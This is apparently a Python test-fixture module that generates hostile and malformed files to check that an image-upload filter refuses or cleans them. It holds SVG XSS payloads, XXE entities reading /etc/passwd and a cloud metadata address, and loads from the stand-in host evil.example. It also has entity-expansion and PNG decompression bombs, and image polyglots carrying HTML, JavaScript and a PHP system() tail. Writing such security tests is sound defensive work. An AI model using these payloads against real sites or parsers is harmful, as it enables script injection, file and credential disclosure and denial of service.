"""Files that are no picture, or more than one: each by its name. SVG of every wicked kind, and files of two kinds."""

from __future__ import annotations

import gzip
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO

from PIL import Image, PngImagePlugin

CANARY = b"canary-5f0c"
SCRIPT = b"<script>alert('" + CANARY + b"')</script>"

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"{more}>{body}</svg>'
_JS = "alert(1)"
_EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onbegin",
    "onend",
    "onrepeat",
    "onactivate",
    "onunload",
    "onresize",
    "onscroll",
    "onwheel",
    "onpointerdown",
    "onanimationstart",
    "ontransitionend",
    "oncopy",
    "onpaste",
    "ondrag",
    "ontoggle",
]
_BODIES = {
    "script": f"<script>{_JS}</script>",
    "script of another place": '<script href="https://evil.example/x.js"/>',
    "script by xlink": f'<script xlink:href="data:text/javascript,{_JS}"/>',
    "script in CDATA": f"<script><![CDATA[{_JS}]]></script>",
    "script with a prefix": f'<x:script xmlns:x="http://www.w3.org/2000/svg">{_JS}</x:script>',
    "script in capitals": f"<SCRIPT>{_JS}</SCRIPT>",
    "module": f'<script type="module">{_JS}</script>',
    "foreign HTML": f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>{_JS}</script></body></foreignObject>',
    "foreign frame": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
    "foreign form": '<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input/></form></foreignObject>',
    "foreign embed": '<foreignObject><embed xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    "foreign object tag": '<foreignObject><object xmlns="http://www.w3.org/1999/xhtml" data="x.swf"/></foreignObject>',
    "foreign meta refresh": '<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=//evil.example"/></foreignObject>',
    "link with a script": f'<a href="javascript:{_JS}"><rect width="9" height="9"/></a>',
    "link by xlink": f'<a xlink:href="javascript:{_JS}"><text y="9">x</text></a>',
    "link with entities": '<a href="&#106;avascript:alert(1)"><text>x</text></a>',
    "link with a tab": '<a href="java&#9;script:alert(1)"><text>x</text></a>',
    "animated link": f'<a><animate attributeName="href" values="javascript:{_JS}"/><text>x</text></a>',
    "set link": f'<a><set attributeName="href" to="javascript:{_JS}"/><text>x</text></a>',
    "animated handler": f'<rect><set attributeName="onmouseover" to="{_JS}"/></rect>',
    "use of another place": '<use href="https://evil.example/x.svg#a"/>',
    "use by xlink": '<use xlink:href="https://evil.example/x.svg#a"/>',
    "use of data": '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
    "image of another place": '<image href="https://evil.example/p.png" width="9" height="9"/>',
    "image of this machine": '<image xlink:href="file:///etc/passwd" width="9" height="9"/>',
    "image in an image": '<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E" width="9" height="9"/>',
    "style import": "<style>@import url(https://evil.example/x.css);</style>",
    "style that asks": "<style>*{background:url(https://evil.example/)}</style>",
    "style font": "<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>",
    "inline style": '<rect style="fill:url(https://evil.example/x.svg#a)"/>',
    "filter": '<filter id="f"><feImage href="https://evil.example/x.svg"/></filter>',
    "endless use": '<g id="a"><use href="#a"/></g>',
    "many uses": "".join(f'<g id="g{n}">' + f'<use href="#g{n + 1}"/>' * 10 + "</g>" for n in range(9)),
    "huge": '<rect width="99999999999" height="99999999999"/>',
    "iframe": '<iframe src="javascript:alert(1)"/>',
    "handler without quotes": f"<rect onclick={_JS}>",
    "text alone": "<text y='9'>harmless</text>",
}
_HEADS = {
    "XXE": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "XXE over HTTP": '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://169.254.169.254/latest/">]>',
    "parameter entity": '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
    "external DTD": '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">',
    "billion laughs": '<!DOCTYPE svg [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    + "]>",
    "quadratic blow-up": f'<!DOCTYPE svg [<!ENTITY a "{"a" * 50_000}">]>',
    "stylesheet of another place": '<?xml-stylesheet href="https://evil.example/x.css"?>',
    "XSLT": '<?xml-stylesheet type="text/xsl" href="#x"?>',
    "comment first": "<!-- a picture, honestly -->",
    "byte order mark": "\ufeff",
    "spaces first": " \n\t ",
}
_PACKINGS: dict[str, Callable[[str], bytes]] = {
    "UTF-16": lambda svg: svg.encode("utf-16"),
    "UTF-16 without mark": lambda svg: svg.encode("utf-16-be"),
    "UTF-32": lambda svg: svg.encode("utf-32"),
    "UTF-7": lambda svg: svg.encode("utf-7"),
    "gzip": lambda svg: gzip.compress(svg.encode()),
    "PNG's first bytes": lambda svg: b"\x89PNG\r\n\x1a\n" + svg.encode(),
    "JPEG's first bytes": lambda svg: b"\xff\xd8\xff\xe0" + svg.encode(),
    "WebP's first bytes": lambda svg: b"RIFF\0\0\1\0WEBP" + svg.encode(),
    "GIF's first bytes": lambda svg: b"GIF89a" + svg.encode(),
}


def svgs() -> Iterator[tuple[str, bytes]]:
    for event in _EVENTS:
        yield f"SVG {event}", _SVG.format(more=f' {event}="{_JS}"', body="").encode()
    for name, body in _BODIES.items():
        yield f"SVG {name}", _SVG.format(more="", body=body).encode()
    for name, head in _HEADS.items():
        yield f"SVG {name}", (head + _SVG.format(more="", body="<text>&x;</text>")).encode()
    for name, pack in _PACKINGS.items():
        yield f"SVG as {name}", pack(_SVG.format(more=' onload="alert(1)"', body=SCRIPT.decode()))


def picture(format: str = "PNG", size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    written = BytesIO()
    Image.effect_mandelbrot(size, (-2, -1.5, 1, 1.5), 50).convert("RGB").save(written, format, **options)
    return written.getvalue()


def unreadable() -> Iterator[tuple[str, bytes]]:
    """Refused: of another kind, damaged, too small or too large."""
    yield "nothing", b""
    yield "text", b"hello"
    yield "HTML", b"<!doctype html>" + SCRIPT
    yield "PDF", b"%PDF-1.7\n" + SCRIPT
    yield "PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run"
    yield "JavaScript that is a GIF", b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)"
    for format in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "JPEG2000", "AVIF"):
        yield format, picture(format)
    for format in ("PNG", "JPEG", "WEBP"):
        whole = picture(format)
        for part in (8, 20, len(whole) // 2, len(whole) * 9 // 10):
            yield f"{format}, its first {part} bytes", whole[:part]
        yield f"{format} of one pixel", picture(format, (1, 1))
        yield f"{format} that is a line", picture(format, (2000, 2))
    yield "PNG that says 60000 by 60000", _png(60_000, 60_000, zlib.compress(b"\0" * 1000))
    yield "PNG that says 2147483647 by 1", _png(2**31 - 1, 1, zlib.compress(b"\0"))
    yield "PNG of 5000 by 5000", _png(5000, 5000, zlib.compress(b"\0" * (5000 * 625 + 5000)), depth=1)
    yield "PNG of no width", _png(0, 16, zlib.compress(b"\0" * 16))
    yield "PNG with a note that unfolds", _png(32, 32, zlib.compress(b"\0" * 132), depth=1, note=True)
    yield "JPEG of 65000 by 65000", _jpeg_that_says(65_000, 65_000)
    yield (
        "WebP of 16384 by 16384",
        b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\x3f\0\xff\x3f\0" + b"\0" * 8,
    )
    yield "three megabytes", picture() + b"\0" * 3_000_000


def polyglots() -> Iterator[tuple[str, bytes]]:
    """Pictures with more in them. What is kept of them is the picture."""
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", SCRIPT.decode())
    notes.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    yield "PNG with texts", picture(pnginfo=notes)
    yield "PNG with a profile", picture(icc_profile=SCRIPT * 20)
    yield "PNG with a tail of HTML", picture() + SCRIPT
    yield "PNG with a ZIP behind", picture() + _zip()
    yield "PNG with PHP behind", picture() + b"<?php system('" + CANARY + b"');"
    yield "PNG with a chunk of its own", _with_chunk(picture(), b"shTm", SCRIPT)
    exif = Image.Exif()
    exif[0x010E], exif[0x9286], exif[0x0112] = SCRIPT.decode(), SCRIPT, 6
    for format in ("PNG", "JPEG", "WEBP"):
        yield f"{format} with EXIF", picture(format, exif=exif)
    yield "JPEG with a comment", picture("JPEG", comment=SCRIPT)
    yield "JPEG with a tail of HTML", picture("JPEG") + SCRIPT
    yield "JPEG with a ZIP behind", picture("JPEG") + _zip()
    yield "JPEG with a PDF behind", picture("JPEG") + b"%PDF-1.4\n" + SCRIPT
    yield (
        "JPEG with a segment of JavaScript",
        _with_segment(picture("JPEG"), b"*/=alert('" + CANARY + b"');/*"),
    )
    yield "WebP with XMP", picture("WEBP", xmp=SCRIPT)
    yield "WebP with a tail", picture("WEBP") + SCRIPT
    yield "PNG with a palette", _converted("P")
    yield "PNG of 16 bits", _converted("I;16")
    yield "animated PNG", _animated("PNG")
    yield "animated WebP", _animated("WEBP")
    yield "JPEG for print", _cmyk()


def _png(width: int, height: int, data: bytes, *, depth: int = 8, note: bool = False) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    bomb = _chunk(b"zTXt", b"c\0\0" + zlib.compress(b"\0" * 80_000_000)) if note else b""
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + bomb + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _with_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
    return png[:33] + _chunk(kind, data) + png[33:]


def _with_segment(jpeg: bytes, data: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xe2" + struct.pack(">H", len(data) + 2) + data + jpeg[2:]


def _jpeg_that_says(width: int, height: int) -> bytes:
    whole = picture("JPEG")
    at = whole.index(b"\xff\xc0") + 5
    return whole[:at] + struct.pack(">HH", height, width) + whole[at + 4 :]


def _zip() -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("index.html", SCRIPT)
    return packed.getvalue()


def _converted(mode: str) -> bytes:
    written = BytesIO()
    Image.linear_gradient("L").convert(mode).save(written, "PNG")
    return written.getvalue()


def _animated(format: str) -> bytes:
    written = BytesIO()
    frames = [Image.new("RGBA", (40, 40), colour) for colour in ("#1f5fbf", "#0f766e", "#000000")]
    frames[0].save(written, format, save_all=True, append_images=frames[1:], duration=40)
    return written.getvalue()


def _cmyk() -> bytes:
    written = BytesIO()
    Image.new("CMYK", (50, 50), (10, 20, 30, 40)).save(written, "JPEG")
    return written.getvalue()
